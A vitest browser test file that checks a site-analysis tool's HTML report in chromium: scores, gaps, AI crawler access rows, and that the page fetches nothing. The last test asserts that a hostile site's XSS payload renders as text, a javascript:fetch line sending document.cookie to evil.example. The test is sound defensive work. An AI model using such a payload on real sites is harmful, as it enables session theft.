// The HTML report in a real browser: Debian's chromium driven by playwright-core. It checks what a person
// sees (the scores, every gap), takes a screenshot, and proves that nothing leaves the page and that a
// hostile site's markup and script stay text. CI installs chromium (.ci/run) and must not skip this.
import { readFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { REPORT_CSP } from '../../../src/domain/reports/html-report.js'
import { harness, KEY, type Harness } from '../../fixtures/analyze.js'
import { browserRuns as runs, CHROMIUM, launchBrowser, openHtml, pwned, SKIP_REASON } from '../../../../../packages/renderer/test/helpers/html-page.js'
import { CDN, crawlerSites } from '../../fixtures/sites/crawlers.js'
import { HOSTILE, HOSTILE_TITLE, hostileSite } from '../../fixtures/sites/hostile.js'
import { WEAK, WEAK_HOSTS, weakSite } from '../../fixtures/sites/weak.js'

const CATEGORY_NAMES: Record<string, string> = {
  fetchability: 'Fetchability', metadata: 'Metadata', crawl_policy: 'Crawl policy', structured_data: 'Structured data', llm_readiness: 'LLM readiness', freshness: 'Freshness'
}
const suite = runs ? describe : describe.skip
if (!runs) console.warn(`Skipped the HTML report's browser tests: no chromium at ${CHROMIUM}. CI installs it and fails without it.`)
/** The lines a person reads, without the blank ones between paragraphs. */
const lines = (text: string): string[] => text.split('\n').filter((line) => line.trim() !== '')

suite(runs ? 'the HTML report in chromium' : `the HTML report in chromium (${SKIP_REASON})`, () => {
  let h: Harness
  let browser: Browser
  beforeAll(async () => {
    h = await harness([...WEAK_HOSTS, HOSTILE, CDN], (o) => ({ ...weakSite(o), ...hostileSite(), ...crawlerSites() }))
    browser = await launchBrowser()
  }, 60_000)
  afterAll(async () => {
    await browser?.close()
    await h?.close()
  })

  /** The JSON report and the HTML page the route answers for the same site (Accept: text/html). */
  async function reports (site: string): Promise<{ report: any, html: string }> {
    const report = (await h.analyze(site)).body
    const res = await h.app.inject({ method: 'POST', url: '/v1/site-intel/analyze', headers: { ...KEY, accept: 'text/html' }, payload: { url: site } })
    expect([res.statusCode, res.headers['content-type'], res.headers['content-security-policy']]).toEqual([200, 'text/html; charset=utf-8', REPORT_CSP])
    return { report, html: res.body }
  }

  /** Opens a report page, recording every request the page tries and every dialog it opens. */
  const open = async (html: string, javaScriptEnabled: boolean): Promise<{ page: Page, requests: string[], dialogs: string[] }> =>
    await openHtml(browser, html, { javaScriptEnabled })

  it('shows the two scores, the categories and every gap with its evidence, without JavaScript, and takes a screenshot', async () => {
    const { report, html } = await reports(h.server.origin(WEAK))
    const { page, requests } = await open(html, false)
    expect(await page.locator('script').count()).toBe(0)
    const text = await page.innerText('body')
    expect(text).toContain(`Technical crawl score\n${report.technical_crawl_score} / ${report.max_score}`)
    expect(text).toContain(`AEO authority score\n${report.aeo_authority_score.score} / 100`)
    for (const [id, category] of Object.entries<any>(report.category_scores)) {
      expect(await page.locator('#categories tr', { hasText: CATEGORY_NAMES[id] }).innerText(), id).toBe(`${CATEGORY_NAMES[id]}\t${category.score} / ${category.max}`)
    }
    const gaps = page.locator('#gaps .gap')
    expect(await gaps.count()).toBe(report.gaps.length)
    for (const [i, gap] of report.gaps.entries()) {
      // in priority order, each with its severity, the points it costs, its evidence and its recommendation
      expect(lines(await gaps.nth(i).innerText()), gap.code).toEqual([
        `${gap.code} ${gap.severity} · ${gap.points_lost} ${gap.points_lost === 1 ? 'point' : 'points'}`, gap.evidence, `Recommendation: ${gap.recommendation}`
      ])
    }
    const file = join(tmpdir(), 'site-report-weak.png')
    await page.screenshot({ path: file, fullPage: true })
    const png = readFileSync(file)
    expect(png.subarray(0, 8).toString('hex')).toBe('89504e470d0a1a0a')
    expect(png.length).toBeGreaterThan(20_000)
    expect(requests).toEqual([])
    await page.close()
  })

  it('shows what each AI crawler got, and the mismatches both ways', async () => {
    const { report, html } = await reports(h.server.origin(CDN))
    const { page, requests } = await open(html, false)
    const row = async (crawler: string): Promise<string> => await page.locator('#ai-crawlers tr', { hasText: `${crawler} (` }).innerText()
    expect(await page.locator('#ai-crawlers tbody tr').count()).toBe(report.ai_crawler_access.fetched.length)
    expect(await row('OAI-SearchBot')).toBe('OAI-SearchBot (OpenAI)\tsearch\tallowed by line 2\tHTTP 403, blocked, HTTP 403 where we got 200\tblocked by server\tno')
    expect(await row('PerplexityBot')).toBe('PerplexityBot (Perplexity)\tsearch\tallowed by line 2\tHTTP 403, challenge page, Cloudflare, HTTP 403 where we got 200\tblocked by server\tno')
    expect(await row('CCBot')).toBe('CCBot (Common Crawl)\ttraining\tdisallowed by line 5\tHTTP 200, served\tserved despite robots\tnot published')
    expect(await page.locator('#ai-crawlers').innerText()).toContain('a real crawler also comes from its own IP ranges, which this cannot imitate')
    await page.screenshot({ path: join(tmpdir(), 'site-report-cdn.png'), fullPage: true })
    expect(requests).toEqual([])
    await page.close()
  })

  it('renders a hostile site\'s markup and script as text: nothing runs, nothing is fetched', async () => {
    const { html } = await reports(h.server.origin(HOSTILE))
    // scripts allowed in the browser: only the report's escaping and its policy keep the site's markup inert
    const { page, requests, dialogs } = await open(html, true)
    const text = await page.innerText('body')
    expect(text).toContain(HOSTILE_TITLE)
    expect(text).toContain('"<b onmouseover=alert(1)>click here</b>" (javascript:fetch(\'https://evil.example/\'+document.cookie))')
    expect(await pwned(page)).toBeUndefined()
    expect(await page.locator('script, iframe, img, a, object, embed, form').count()).toBe(0)
    await page.locator('td, p, h1, h3').first().hover()
    expect([requests, dialogs]).toEqual([[], []])
    await page.close()
  })
})
